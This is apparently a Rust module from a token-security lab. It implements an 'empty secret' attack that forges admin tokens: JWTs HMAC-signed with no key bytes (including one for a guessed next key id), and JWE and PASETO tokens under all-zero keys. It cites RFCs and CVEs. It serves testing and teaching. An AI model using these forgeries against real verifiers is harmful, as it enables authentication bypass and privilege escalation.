//! The empty secret: an environment variable that nobody has set.
//!
//! The flawed assumption: where there is a place for a key, there is a key. HMAC
//! takes a key of any length, none included (RFC 2104 §2), so a verifier whose
//! secret is missing works well, and anybody can sign. RFC 7518 §3.2 demands a
//! key as long as the hash, RFC 8725 §3.5 one with enough entropy. Bitten:
//! InfluxDB (CVE-2019-20933), RubyGems jwt before 3.2.0 (CVE-2026-45363), PyPI
//! Authlib (CVE-2026-114616) and PyJWT (CVE-2026-102266).
//!
//! A verifier whose only key is missing is found at the first login. The lab
//! shows the one that is not: a list of keys has a slot for the next month that
//! nobody has filled, and Mallory can count. PASETO refuses a key of no bytes,
//! since each has a fixed length; an array of that length which nobody has
//! filled it does not refuse.

use serde_json::{Map, Value};
use tokenlab_harness::Key;

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::{AttackerView, footer_with_kid};
use crate::card::AttackProfile;
use crate::jwe::{self, Recipient};
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{JwsAlgorithm, Purpose, Scheme};
use crate::stand_in::{analogues, under_known_bytes};
use crate::weakness::Weakness;

pub(super) struct BlankSecret;

static PROFILE: AttackProfile = AttackProfile {
    id: "blank-secret",
    title: "Empty secret",
    assumption: "Where there is a place for a key, there is a key.",
    class: AttackClass::Signature,
    given: &[],
    isolated: false,
    breaks: &[Weakness::BlankSecret],
    references: &[
        (
            "RFC 7518 §3.2",
            "The key of an HMAC has at least as many bytes as the hash.",
        ),
        ("RFC 8725 §3.5", "Keys have enough entropy; a blank one has none."),
        (
            "CVE-2019-20933",
            "InfluxDB: a token under an empty shared secret is accepted.",
        ),
        (
            "CVE-2026-45363",
            "RubyGems jwt before 3.2.0: an empty or nil HMAC key is accepted.",
        ),
        (
            "CVE-2026-114616",
            "PyPI Authlib: an empty HMAC key is accepted (GHSA-8m4g-j4wp-wgcg).",
        ),
        (
            "CVE-2026-102266",
            "PyPI PyJWT: an empty key is accepted through PyJWK (GHSA-9j54-fg26-wv3r).",
        ),
        (
            "PASETO, Version4",
            "A local key has 32 bytes; that somebody has filled them is not said.",
        ),
    ],
    lesson: include_str!("../../lessons/blank-secret.md"),
};

impl Attack for BlankSecret {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        match (view.scheme(), view.public_key()) {
            (Scheme::Jwt(algorithm), None) => empty_tags(view, algorithm, notes),
            (Scheme::Jwe(..), None) => zero_content_keys(view, notes),
            (Scheme::Paseto(_, Purpose::Local), _) => zero_local_keys(view, notes),
            _ => Err(CannotForge::Inexpressible {
                why: "the verifier has no secret that could be blank".into(),
                tried: analogues(
                    notes,
                    "nothing, or 32 zeros, stands where the family has a secret",
                    [(
                        "zeros",
                        "Makes a token in which the subject is admin, with zeros for a secret.",
                        under_known_bytes(view, &[0; 32])?,
                    )],
                ),
            }),
        }
    }
}

/// HMACs under no bytes, for the key that honest tokens name and for the one
/// after it.
fn empty_tags(
    view: &AttackerView<'_>,
    algorithm: JwsAlgorithm,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    let signature = Signature::By(algorithm, Key::Secret(Vec::new()));
    let honest = view.sample_header();
    let next = honest.get("kid").and_then(Value::as_str).and_then(next_name);
    let mut headers = vec![("empty-secret", honest)];
    headers.extend(next.map(|next| ("empty-secret-next-key", view.header_with_kid(&next))));
    let mut forgeries = Vec::new();
    for (variant, header) in headers {
        notes.variant_step(
            variant,
            "Computes the HMAC with no bytes as the secret. The subject is admin.",
            Value::Object(header.clone()).to_string(),
        );
        forgeries.push(Forgery::new(
            variant,
            mint::jws(&header, view.wanted(), &signature)?,
        ));
    }
    Ok(forgeries)
}

/// JWEs under content keys and wrapping keys of zeros.
fn zero_content_keys(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let payload = mint::jwt_payload(view.wanted())?;
    let mut forgeries = Vec::new();
    for (variant, recipient) in [
        ("zeros-dir", Recipient::Direct(vec![0; 32])),
        ("zeros-a128kw", Recipient::A128Kw([0; 16])),
        ("zeros-a256kw", Recipient::A256Kw([0; 32])),
    ] {
        notes.variant_step(
            variant,
            "Encrypts the claims, in which the subject is admin, under a key of zeros.",
            payload.as_str(),
        );
        let token = jwe::seal(&recipient, &Map::new(), payload.as_bytes())?;
        forgeries.push(Forgery::new(variant, token));
    }
    Ok(forgeries)
}

/// Local tokens under 32 zeros, likewise.
fn zero_local_keys(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let honest = view.sample_footer();
    let footer: Map<String, Value> = serde_json::from_str(&honest).unwrap_or_default();
    let next = footer.get("kid").and_then(Value::as_str).and_then(next_name);
    let mut footers = vec![("zeros", honest)];
    footers.extend(next.map(|next| ("zeros-next-key", footer_with_kid(&next))));
    let mut forgeries = Vec::new();
    for (variant, footer) in footers {
        notes.variant_step(
            variant,
            "Encrypts a local token, in which the subject is admin, under 32 zeros.",
            footer.as_str(),
        );
        let key = Key::Secret(vec![0; 32]);
        let token = mint::paseto(view.scheme(), &key, view.wanted(), &footer)?;
        forgeries.push(Forgery::analogue(
            variant,
            token,
            "a key of no bytes is refused for its length, so one of zeros takes its place",
        ));
    }
    Ok(forgeries)
}

/// The name after this one, where names count: `2026-02` after `2026-01`.
fn next_name(name: &str) -> Option<String> {
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit());
    let digits = name.strip_prefix(stem)?;
    let next = digits.parse::<u32>().ok()?.checked_add(1)?;
    Some(format!("{stem}{next:0width$}", width = digits.len()))
}

#[cfg(test)]
mod tests {
    use super::next_name;

    #[test]
    fn names_that_end_in_a_number_are_counted_on() {
        assert_eq!(next_name("2026-01").as_deref(), Some("2026-02"));
        assert_eq!(next_name("key9").as_deref(), Some("key10"));
        for name in ["", "login", "2026-"] {
            assert_eq!(next_name(name), None, "{name}");
        }
    }
}
